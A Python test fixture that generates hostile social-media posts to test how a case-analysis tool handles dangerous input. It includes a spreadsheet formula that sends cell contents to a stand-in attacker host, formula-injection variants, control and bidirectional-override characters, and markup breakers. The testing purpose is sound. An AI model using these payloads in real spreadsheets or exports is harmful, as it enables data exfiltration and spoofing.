"""A small case whose posts try to do harm: formulas, control characters, handles, addresses, ids that look like numbers."""

from __future__ import annotations

import json
from pathlib import Path

from tests.support import write_posts
from tocsin.case import Case

START = 1_715_731_200
TEXTS = (
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1 for this",
    "-2 of them",
    "@handle_of_someone says hello",
    "\t=1+1",
    "\r=1+1",
    '"=1+1"',
    "one;=1+1",
    "line\n=1+1",
    "plain\x0btext\x00 with \x1b[31mcolour",
    "right \u202eto left",
    "_x0041_ and <b>&amp;</b> ]]>",
    "007",
    "12345678901234567890",
    "1e5",
    "mail me at someone@mail.example or +44 20 7946 0018",
    "see https://t.me/a_private_channel/17 and https://news.example/a?key=1",
    "",
)


def make(folder: Path) -> Case:
    """The case, run without meaning; its four `core` accounts make one group."""
    folder.mkdir(parents=True, exist_ok=True)
    hostile = [
        {
            "post_id": f"90000000000000{n:05}", "account_id": f"5550001{n % 3}", "handle": f"handle_{n % 3}", "name": f"Full Name {n % 3}",
            "ts": START + n * 60, "text": text, "platform": "x", "hashtags": ["two words", f"tag{n}"],
            "url": f"https://x.com/handle_{n % 3}/status/90000000000000{n:05}", "urls": ["https://news.example/story?session=abc"],
            "repost_id": "90000000000000000" if n % 4 == 1 else None,
        }
        for n, text in enumerate(TEXTS)
    ]  # fmt: skip
    path = folder / "hostile.jsonl"
    path.write_text("\n".join(map(json.dumps, hostile)), encoding="utf-8")
    case = Case.new(folder / "case", "=A case", b"k" * 32)
    case.add([write_posts(folder / "posts.csv", 400), path])
    case.run(changes={"match.encode": 0})
    return case
